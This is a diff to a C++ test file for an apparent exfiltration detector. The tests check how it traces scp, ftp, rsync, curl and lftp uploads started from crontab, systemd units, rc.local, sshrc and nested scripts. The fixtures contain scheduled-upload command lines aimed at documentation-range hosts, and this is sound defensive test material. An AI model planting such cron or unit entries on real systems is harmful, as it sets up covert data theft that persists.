@@ -38,7 +38,8 @@ TEST_CASE("registered: what artefacts and their scripts would send") {
        "0 9 * * * root /tmp/agent -s -T /a ftp://192.0.2.5/up/b\n"},
       {"/opt/night.sh",
        "#!/bin/sh\nfor i in 1 2; do\n  ftp -n 192.0.2.2 <<END\nput x\nEND\ndone\n/opt/deeper.sh\n"},
-      {"/opt/deeper.sh", "#!/bin/sh\nscp a b@192.0.2.9:\n"},
+      {"/opt/deeper.sh", "#!/bin/sh\nscp a b@192.0.2.9:\n/opt/deepest.sh\n"},
+      {"/opt/deepest.sh", "#!/bin/sh\nscp a b@192.0.2.10:\n"},
       {"/opt/x.py", "#!/usr/bin/python3\nimport os\nscp = 1\n"},
       {"/etc/systemd/system/a.service",
        "[Service]\nExecStart=/usr/bin/rsync -a /a b@192.0.2.6:c\n"},
@@ -50,6 +51,7 @@ TEST_CASE("registered: what artefacts and their scripts would send") {
   const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
   CHECK(told(found) == Lines{"/etc/crontab:1: scp out 192.0.2.1",
                              "/etc/crontab:2 in /opt/night.sh: ftp unknown 192.0.2.2",
+                             "/etc/crontab:2 in /opt/deeper.sh: scp out 192.0.2.9",
                              "/etc/crontab:3: curl out 192.0.2.3", "/etc/crontab:4: scp out ?",
                              "/etc/crontab:5: curl in 192.0.2.4",
                              "/etc/crontab:8: curl out 192.0.2.5",
@@ -75,6 +77,175 @@ TEST_CASE("registered: what find starts goes out as find would have it") {
                              "/etc/crontab:3: scp out 192.0.2.3",
                              "/etc/systemd/system/a.service: curl out 192.0.2.4"});
   CHECK(found.at(0).command == "scp $ u@192.0.2.1:");
+}
+
+TEST_CASE("registered: scripts are found as what starts them finds them") {
+  struct Case {
+    const char* line;
+    const char* script;  // empty: none
+  };
+  const auto c = GENERATE(values<Case>({
+      {"root cd /home/al/bin && ./x.sh", "/home/al/bin/x.sh"},
+      {"al ~/bin/x.sh", "/home/al/bin/x.sh"},
+      {"root ~al/bin/x.sh", "/home/al/bin/x.sh"},
+      {"root ~/bin/x.sh", ""},
+      {"al $HOME/bin/x.sh", "/home/al/bin/x.sh"},
+      {"al ${HOME}/bin/x.sh", "/home/al/bin/x.sh"},
+      {"al bin/x.sh", "/home/al/bin/x.sh"},
+      {"root bin/x.sh", ""},
+      {"root usual", "/usr/bin/usual"},
+      {"root push-it", ""},
+      {"root nice -n 5 usual", "/usr/bin/usual"},
+      {"root echo usual", ""},
+      {"root test -x /usr/bin/usual", ""},
+      {"root PATH=/usr/local/bin push-it", ""},
+      {"root /usr/bin/env bash /home/al/bin/x.sh", "/home/al/bin/x.sh"},
+      {"root sh /opt/bare", "/opt/bare"},
+      {"root bash -e /opt/bare", "/opt/bare"},
+      {"root . /opt/bare", "/opt/bare"},
+      {"root /opt/bare", ""},
+      {"root cat /opt/bare", ""},
+      {"al sudo -u root /home/al/bin/x.sh", "/home/al/bin/x.sh"},
+      {"root su - al -c bin/x.sh", "/home/al/bin/x.sh"},
+      {"root su - al -c 'cd bin; ./x.sh'", "/home/al/bin/x.sh"},
+  }));
+  CAPTURE(c.line);
+  const std::string text = "scp a b@192.0.2.1:\n";
+  const std::string script = "#!/bin/sh\n" + text;
+  const Image image(
+      Files{{"/etc/passwd", "root:x:0:0::/root:/bin/sh\nal:x:7:7::/home/al:/bin/sh\n"},
+            {"/etc/crontab", std::string("1 1 * * * ") + c.line + "\n"},
+            {"/home/al/bin/x.sh", script},
+            {"/usr/bin/usual", script},
+            {"/usr/local/bin/push-it", script},
+            {"/opt/bare", text}});
+  const Inventory inventory = collect(image);
+  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
+  REQUIRE(found.size() == (*c.script == '\0' ? 0 : 1));
+  for (const Registered& one : found) {
+    CHECK(one.script == c.script);
+  }
+}
+
+TEST_CASE("registered: scripts by the table's PATH, of user units, of sshd, in other scripts") {
+  const std::string script = "#!/bin/sh\nscp a b@192.0.2.1:\n";
+  const Image image(Files{
+      {"/etc/passwd", "al:x:7:7::/home/al:/bin/sh\n"},
+      {"/etc/crontab", "PATH=/usr/bin:/usr/local/bin\n1 1 * * * root push-it\n"},
+      {"/etc/cron.daily/nightly", "#!/bin/sh\n/usr/local/bin/push-it\n"},
+      {"/etc/rc.local", "#!/bin/sh\ncd /opt\n./ship.sh\n"},
+      {"/etc/ssh/sshrc", "scp k b@192.0.2.1:\n"},
+      {"/home/al/.config/systemd/user/a.service", "[Service]\nExecStart=%h/bin/x\n"},
+      {"/home/al/.config/systemd/user/b.service", "[Service]\nExecStart=/bin/bash %h/bin/x\n"},
+      {"/etc/systemd/system/c.service", "[Service]\nUser=al\nExecStart=%h/bin/x\n"},
+      {"/home/al/bin/x", script},
+      {"/opt/ship.sh", script},
+      {"/usr/local/bin/push-it", script},
+  });
+  const Inventory inventory = collect(image);
+  CHECK(told(find_registered(inventory, image, auexfil::test::rules().tools)) ==
+        Lines{"/etc/crontab:2 in /usr/local/bin/push-it: scp out 192.0.2.1",
+              "/etc/cron.daily/nightly in /usr/local/bin/push-it: scp out 192.0.2.1",
+              "/home/al/.config/systemd/user/a.service in /home/al/bin/x: scp out 192.0.2.1",
+              "/home/al/.config/systemd/user/b.service in /home/al/bin/x: scp out 192.0.2.1",
+              "/etc/ssh/sshrc in /etc/ssh/sshrc: scp out 192.0.2.1",
+              "/etc/rc.local in /opt/ship.sh: scp out 192.0.2.1"});
+}
+
+TEST_CASE("registered: as whom a line has its commands run") {
+  struct Case {
+    const char* line;
+    Lines users;
+  };
+  const auto c = GENERATE(values<Case>({
+      {"scp a b@h:", {"root"}},
+      {"sudo -u al scp a b@h:", {"al"}},
+      {"nice -n 5 sudo -n -ual -- scp a b@h:", {"al"}},
+      {"sudo --user=al -H scp a b@h:", {"al"}},
+      {"sudo scp a b@h:", {"root"}},
+      {"runuser -l al -c 'scp a b@h:'; scp c b@h:", {"al", "root"}},
+      {"runuser -u al -- scp a b@h:", {"al"}},
+      {"su - al -c 'cd /; scp a b@h:; scp c b@h:'; scp d b@h:", {"al", "al", "root"}},
+      {"su al -s /bin/sh -c 'scp a b@h:'", {"al"}},
+      {"su - al -c /opt/x; scp a b@h:", {"al", "root"}},
+      {"sudo -u al sh -c 'scp a b@h: && scp c b@h:'; scp d b@h:", {"al", "al", "root"}},
+      {"sudo -u $WHO scp a b@h:", {"root"}},
+  }));
+  CAPTURE(c.line);
+  const Image image(
+      Files{{"/etc/passwd", "root:x:0:0::/root:/bin/sh\nal:x:7:7::/home/al:/bin/sh\n"},
+            {"/etc/crontab", std::string("1 1 * * * root ") + c.line + "\n"},
+            {"/opt/x", "#!/bin/sh\nscp x b@h:\n"}});
+  const Inventory inventory = collect(image);
+  Lines users;
+  for (const Registered& one : find_registered(inventory, image, auexfil::test::rules().tools)) {
+    users.push_back(one.user);
+    CHECK(one.uid == (one.user == "al" ? 7U : 0U));
+  }
+  CHECK(users == c.users);
+}
+
+TEST_CASE("registered: what tables, units and scripts set as it stands is told") {
+  struct Case {
+    const char* text;  // of a script
+    const char* command;
+  };
+  const auto c = GENERATE(values<Case>({
+      {"H=192.0.2.1\nscp a \"b@$H:x\"", "scp a b@192.0.2.1:x"},
+      {"H=192.0.2.1; P=/up\nT=b@${H}:$P\nscp a $T", "scp a b@192.0.2.1:/up"},
+      {"export H='192.0.2.1'\nscp a b@$H:", "scp a b@192.0.2.1:"},
+      {"O=\"-q -p\"\nscp $O a b@h:", "scp -q -p a b@h:"},
+      {"O=\"-q -p\"\nscp \"$O\" a b@h:", "scp -q -p a b@h:"},
+      {"scp a b@$H:\nH=192.0.2.1", "scp a b@$:"},
+      {"H=192.0.2.1\nH=192.0.2.2\nscp a b@$H:", "scp a b@$:"},
+      {"if x; then H=192.0.2.1; fi\nscp a b@$H:", "scp a b@$:"},
+      {"case $1 in a) H=192.0.2.1;; esac\nscp a b@$H:", "scp a b@$:"},
+      {"x && H=192.0.2.1\nscp a b@$H:", "scp a b@$:"},
+      {"(H=192.0.2.1)\nscp a b@$H:", "scp a b@$:"},
+      {"f() { H=192.0.2.1; }\nscp a b@$H:", "scp a b@$:"},
+      {"H=192.0.2.1\n. /etc/x\nscp a b@$H:", "scp a b@$:"},
+      {"H=192.0.2.1\nread H\nscp a b@$H:", "scp a b@$:"},
+      {"for H in one two; do scp a b@$H:; done", "scp a b@$:"},
+      {"H=192.0.2.1 x\nscp a b@$H:", "scp a b@$:"},
+      {"H=$(cat h)\nscp a b@$H:", "scp a b@$:"},
+      {"F='*.gz'\nscp $F b@h:", "scp $ b@h:"},
+      {"scp a b@$OUT:", "scp a b@192.0.2.9:"},
+      {"OUT=$1\nscp a b@$OUT:", "scp a b@$:"},
+      {"scp a b@${H:-192.0.2.1}:", "scp a b@$:"},
+  }));
+  CAPTURE(c.text);
+  const Image image(Files{{"/etc/crontab", "OUT = 192.0.2.9\n1 1 * * * root /opt/x\nOUT=late\n"},
+                          {"/opt/x", std::string("#!/bin/sh\n") + c.text + "\n"}});
+  const Inventory inventory = collect(image);
+  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
+  REQUIRE(found.size() == 1);
+  CHECK(found.front().command == c.command);
+}
+
+TEST_CASE("registered: the environment of units") {
+  const Image image(Files{
+      {"/etc/systemd/system/a@.service",
+       "[Service]\nEnvironment=D=192.0.2.7 \"O=-a -z\" X=$Y\nEnvironmentFile=-/etc/default/a\n"
+       "EnvironmentFile=-/etc/none\nExecStart=/usr/bin/rsync $O /srv/%i/ ${D}:/b/%i\n"},
+      {"/etc/default/a", "# D=no\nD=\"192.0.2.8\"\n"},
+      {"/etc/systemd/system/b.service",
+       "[Service]\nEnvironment=D=192.0.2.7\nExecStart=/usr/bin/scp /a ${D}:$E\n"},
+  });
+  const Inventory inventory = collect(image);
+  const auto found = find_registered(inventory, image, auexfil::test::rules().tools);
+  REQUIRE(found.size() == 2);
+  CHECK(found[0].command == "/usr/bin/rsync -a -z /srv/$/ 192.0.2.8:/b/$");
+  CHECK(found[1].command == "/usr/bin/scp /a 192.0.2.7:$");
+}
+
+TEST_CASE("registered: lftp's file of commands names the peer") {
+  const Image image(Files{
+      {"/etc/crontab", "1 1 * * * root lftp -f /etc/l\n2 1 * * * root lftp -f /etc/none\n"},
+      {"/etc/l", "set x y\nopen -u a,b 192.0.2.1\nput /a\n"},
+  });
+  const Inventory inventory = collect(image);
+  CHECK(told(find_registered(inventory, image, auexfil::test::rules().tools)) ==
+        Lines{"/etc/crontab:1: lftp out 192.0.2.1"});
 }
 
 TEST_CASE("registered: a script that may not be executed is left out, where modes are kept") {
